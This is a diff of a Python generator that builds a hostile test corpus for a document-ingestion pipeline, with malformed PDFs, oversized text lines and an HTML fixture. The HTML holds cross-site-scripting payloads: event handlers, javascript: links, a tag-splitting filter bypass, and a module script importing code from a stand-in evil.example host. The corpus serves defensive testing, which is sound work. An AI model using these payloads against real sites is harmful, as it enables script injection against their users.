@@ -199,8 +199,8 @@ def _pdfs(folder: Path) -> dict[str, str]:
     (folder / "zero_pages.pdf").write_bytes(pdf_bytes([
         b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]))
     out["zero_pages.pdf"] = FAILED
-    (folder / "empty.pdf").write_bytes(b"")
-    out["empty.pdf"] = FAILED
+    (folder / "header_only.pdf").write_bytes(b"%PDF-1.7\n")      # (one empty file is enough: see empty.txt)
+    out["header_only.pdf"] = FAILED
     (folder / "not_a_pdf.pdf").write_bytes(b"<html><body>Fehlgeleitete Seite</body></html>")
     out["not_a_pdf.pdf"] = FAILED
     # JavaScript on open, on page open and in the name tree: text goes in, the script never runs
@@ -306,7 +306,7 @@ def _odt_deep(path: Path, *, depth: int) -> Path:
     return _rewrite_zip(_odt_bytes("Tief"), path, replace={"content.xml": deep})
 
 
-def _text(folder: Path) -> dict[str, str]:
+def _text(folder: Path, huge_kb: int) -> dict[str, str]:
     out: dict[str, str] = {}
     rnd = random.Random(4711)
     # Latin-1 text with stray bytes (an old export): readable, goes in as cp1252/latin-1
@@ -327,12 +327,12 @@ def _text(folder: Path) -> dict[str, str]:
     out["empty.txt"] = FAILED
     (folder / "whitespace_only.md").write_text("\n\n   \t\n" * 100, encoding="utf-8")
     out["whitespace_only.md"] = FAILED
-    # one 300 KB line: words, no sentence end, no newline
+    # one huge line of words without sentence end or newline, and one without any whitespace
     words = ["Haushalt", "Stadt", "Musterhausen", "Förderung", "Antrag", "Beschluss", "Rat", "Verwaltung"]
-    (folder / "huge_line.txt").write_text(" ".join(rnd.choice(words) for _ in range(30_000)), encoding="utf-8")
+    line = " ".join(rnd.choice(words) for _ in range(huge_kb * 1024 // 8))
+    (folder / "huge_line.txt").write_text(line[:huge_kb * 1024], encoding="utf-8")
     out["huge_line.txt"] = EITHER
-    # 200 KB without any whitespace
-    (folder / "huge_token.md").write_text("A" * 200_000, encoding="utf-8")
+    (folder / "huge_token.md").write_text("A" * (huge_kb * 1024), encoding="utf-8")
     out["huge_token.md"] = EITHER
 
     html = """<!DOCTYPE html><html><head><title>Spielplatz</title>
@@ -343,13 +343,14 @@ def _text(folder: Path) -> dict[str, str]:
 <p onclick="steal()">Die Sanierung des Spielplatzes beginnt im April.</p>
 <iframe src="http://evil.example/frame">IFRAMEMARKER</iframe>
 <iframe srcdoc="<p>IFRAMEMARKER</p>"></iframe>
-<object data="http://evil.example/x.swf">OBJECTMARKER</object><embed src="x.swf">
+<object data="http://evil.example/x.swf">OBJECTMARKER</object>
 <template><p>TEMPLATEMARKER</p></template>
 <svg><script>SVGMARKER</script><text>SVGMARKER</text></svg>
 <a href="javascript:alert('SCRIPTMARKER')">Link</a> <img src="x" onerror="alert('SCRIPTMARKER')">
 <script type="module">import("http://evil.example/SCRIPTMARKER.js")</script>
-<scr<script>ipt>SCRIPTMARKER</script>
+<scr<script>ipt>alert(1)</script>
 <p>Die Kosten betragen 80.000 Euro.</p>
+<embed src="x.swf"><p>after embed</p>
 <script>unclosed SCRIPTMARKER
 """
     (folder / "html_scripts.html").write_text(html, encoding="utf-8")
@@ -378,11 +379,14 @@ def _text(folder: Path) -> dict[str, str]:
     return out
 
 
-def make_all(folder: Path) -> dict[str, str]:
-    """Write the hostile corpus into ``folder``; return ``{file name: expected outcome}``."""
+def make_all(folder: Path, *, huge_kb: int = 2048) -> dict[str, str]:
+    """Write the hostile corpus into ``folder``; return ``{file name: expected outcome}``.
+
+    ``huge_kb`` sizes the two huge-line files: they are harmless text, so whatever goes in
+    is embedded (about a second per chunk on two busy cores); ingest tests pass a few KB."""
     folder = Path(folder)
     folder.mkdir(parents=True, exist_ok=True)
-    out = {**_pdfs(folder), **_office(folder), **_text(folder)}
+    out = {**_pdfs(folder), **_office(folder), **_text(folder, huge_kb)}
     assert sorted(out) == sorted(p.name for p in folder.iterdir()
                                  if not p.name.startswith(".") and not p.name.endswith(".meta.yaml")), out
     return out
